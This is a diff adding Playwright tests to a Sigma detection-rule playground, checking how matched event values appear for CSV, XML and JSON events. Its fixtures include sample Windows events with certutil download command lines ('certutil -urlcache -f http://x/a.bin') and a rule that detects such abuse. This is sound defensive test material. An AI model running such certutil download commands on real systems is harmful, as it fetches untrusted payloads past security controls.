@@ -71,11 +71,18 @@ test.describe('the explanation', () => {
 		]);
 		await expect(tree.getByTestId('condition-ref').nth(2)).toHaveAttribute('data-value', 'false');
 		await expect(tree).toContainText('not');
+		await expect(tree.locator('code')).toHaveText([
+			'all of selection_* and not filter',
+			'all of selection_*'
+		]);
 
 		const image = detail.getByTestId('explanation-item').first();
 		await expect(image.getByTestId('item-path')).toHaveText('Event.EventData.Image');
 		await expect(image.getByTestId('item-value')).toHaveText("'\\certutil.exe'");
-		await expect(image).toContainText('"C:\\\\Windows\\\\System32\\\\certutil.exe"');
+		// The event value is shown as the text it is, not JSON-escaped as the event file writes it.
+		await expect(image.getByTestId('item-actual')).toHaveText(
+			'"C:\\Windows\\System32\\certutil.exe"'
+		);
 		// The compared values are highlighted in the event shown below and in the editor.
 		const marks = detail.getByTestId('event-mark');
 		await expect(marks.first()).toHaveText('"C:\\\\Windows\\\\System32\\\\certutil.exe"');
@@ -149,5 +156,83 @@ test.describe('the explanation', () => {
 			(await page.getByTestId('match-elapsed').textContent())!.replace(/[^\d]/g, '')
 		);
 		expect(elapsed).toBeLessThan(500);
+	});
+
+	test('values show as their text in CSV and XML events too, control characters visible', async ({
+		page
+	}) => {
+		await openPlayground(page);
+		await pasteInto(page, 'sigma-editor', certutilRule);
+		const actual = page.getByTestId('event-explanation').getByTestId('item-actual');
+
+		const csv = [
+			'Image,CommandLine,User',
+			'C:\\Windows\\System32\\certutil.exe,"certutil\t-urlcache -f http://x/a.bin",CORP\\alice'
+		].join('\n');
+		await pasteInto(page, 'events-input', csv);
+		await page.getByTestId('event-result').first().click();
+		await expect(actual).toHaveText([
+			'"C:\\Windows\\System32\\certutil.exe"',
+			'"certutil\u2409-urlcache -f http://x/a.bin"',
+			'"CORP\\alice"'
+		]);
+
+		const xml = [
+			'<Events><Event><System><Provider Name="Microsoft-Windows-Sysmon"/><EventID>1</EventID>',
+			'<Channel>Microsoft-Windows-Sysmon/Operational</Channel></System><EventData>',
+			'<Data Name="Image">C:\\Windows\\System32\\certutil.exe</Data>',
+			'<Data Name="CommandLine">certutil -urlcache -f http://x/a.bin</Data>',
+			'<Data Name="User">CORP\\alice</Data></EventData></Event></Events>'
+		].join('\n');
+		await pasteInto(page, 'events-input', xml);
+		await expect(page.getByTestId('match-summary')).toContainText('xml');
+		await expect(actual.first()).toHaveText('"C:\\Windows\\System32\\certutil.exe"');
+	});
+
+	test('a condition that is one selector is not repeated as its own tree node', async ({
+		page
+	}) => {
+		await openPlayground(page);
+		await pasteInto(
+			page,
+			'sigma-editor',
+			certutilRule.replace('all of selection_* and not filter', 'all of selection_*')
+		);
+		await pasteInto(page, 'events-input', events);
+		await page.getByTestId('event-result').first().click();
+		const tree = page.getByTestId('condition-tree');
+		await expect(tree.locator('code')).toHaveText(['all of selection_*']);
+		await expect(tree.getByTestId('condition-ref')).toHaveText(['selection_img', 'selection_cli']);
+	});
+
+	test('clicking the selected row right after the events are replaced shows the new event', async ({
+		page
+	}) => {
+		await openPlayground(page);
+		await pasteInto(page, 'sigma-editor', certutilRule);
+		await pasteInto(page, 'events-input', events);
+		const rows = page.getByTestId('event-result');
+		await rows.first().click();
+		const detail = page.getByTestId('event-explanation');
+		await expect(detail.getByTestId('explanation-event')).toContainText('ws1.corp.example');
+
+		// New events, and a click on the still selected first row before they are matched.
+		const replaced = JSON.stringify([
+			windowsEvent(1, 'C:\\Tools\\other.exe', 'other.exe --help'),
+			windowsEvent(1, certutil, 'certutil -urlcache -f http://y/b.bin b.bin')
+		]).replaceAll('ws1.corp.example', 'ws2.corp.example');
+		await page.evaluate((text) => {
+			const content = document.querySelector('[data-testid="events-input"] .cm-content')!;
+			const data = new DataTransfer();
+			data.setData('text/plain', text);
+			(content as HTMLElement).focus();
+			document.execCommand('selectAll');
+			content.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true }));
+			(document.querySelector('[data-testid="event-result"]') as HTMLElement).click();
+		}, replaced);
+		await expect(rows).toHaveCount(2);
+		await expect(detail).toBeVisible();
+		await expect(detail.getByTestId('explanation-event')).toContainText('other.exe --help');
+		await expect(detail.getByTestId('explanation-summary')).toContainText('Not matched');
 	});
 });
